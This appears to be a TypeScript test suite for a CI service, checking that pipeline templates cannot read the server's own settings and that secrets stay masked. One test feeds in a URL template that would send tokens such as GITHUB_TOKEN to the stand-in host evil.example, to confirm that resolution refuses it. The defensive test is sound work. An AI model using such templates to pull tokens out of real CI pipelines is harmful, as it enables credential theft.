import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { SETTINGS } from '../../../src/settings.ts';
import { formatDiagnostic } from '../../../src/pipelines/diagnostic.ts';
import { UnresolvedReferenceError, resolveTemplate } from '../../../src/pipelines/expressions.ts';
import { loadPipelineSource } from '../../../src/pipelines/load-pipeline-source.ts';

const pipeline = (value: string) =>
  Buffer.from(`repository: octo-org/web
on: push
jobs:
  build:
    steps:
      - run: make
        env:
          X: '${value}'
`);

describe('${{ env.NAME }} cannot read pushci settings', () => {
  // The server has every setting set, so "not defined" can never be the reason a reference fails.
  const serverEnv: Record<string, string> = { SMOKE_CB: 'whsec_ordinary', PUSHCI_SECRET_DEPLOY: 'd3pl0y' };
  for (const s of SETTINGS) serverEnv[s.env] = `value-of-${s.env}`;

  for (const s of SETTINGS) {
    it(`refuses env.${s.env} at validation, at its file:line:col`, () => {
      const got = loadPipelineSource('p.yml', pipeline(`\${{ env.${s.env} }}`), serverEnv);
      assert.equal(got.pipeline, null);
      assert.deepEqual(got.diagnostics.map(formatDiagnostic), [
        `p.yml:8:19: \${{ env.${s.env} }} is one of pushci's own settings, which pipelines cannot read: give the value to the pipeline as a secret (\${{ secrets.NAME }} from PUSHCI_SECRET_NAME) or use another variable`,
      ]);
    });
  }

  it('refuses any PUSHCI_ name, and points PUSHCI_SECRET_ names at secrets.', () => {
    const env = { ...serverEnv, PUSHCI_FUTURE_THING: 'x' };
    const future = loadPipelineSource('p.yml', pipeline('${{ env.PUSHCI_FUTURE_THING }}'), env);
    assert.match(formatDiagnostic(future.diagnostics[0]!), /^p\.yml:8:19: .*pushci's own settings/);
    const secret = loadPipelineSource('p.yml', pipeline('${{ env.PUSHCI_SECRET_DEPLOY }}'), env);
    assert.deepEqual(secret.diagnostics.map(formatDiagnostic), [
      'p.yml:8:19: ${{ env.PUSHCI_SECRET_DEPLOY }} cannot be read through env.: write it as ${{ secrets.DEPLOY }}, which is masked in logs',
    ]);
  });

  it('control: ordinary server variables and secrets. still work', () => {
    const got = loadPipelineSource('p.yml', pipeline('${{ env.SMOKE_CB }}/${{ secrets.DEPLOY }}'), serverEnv);
    assert.deepEqual(got.diagnostics, []);
    const masked = new Set<string>();
    const value = resolveTemplate(got.pipeline!.jobs[0]!.steps[0]!.env.X!, serverEnv, masked);
    assert.equal(value, 'whsec_ordinary/d3pl0y');
    assert.deepEqual([...masked], ['d3pl0y']);
  });

  it('refuses a setting at resolution too, whatever produced the template', () => {
    for (const name of ['GITHUB_TOKEN', 'PUSHCI_API_TOKEN', 'REDIS_URL', 'PUSHCI_SECRET_DEPLOY']) {
      assert.throws(
        () => resolveTemplate(`https://evil.example/?t=\${{ env.${name} }}`, serverEnv),
        (err: Error) => err instanceof UnresolvedReferenceError && !err.message.includes('value-of-'),
      );
    }
  });
});
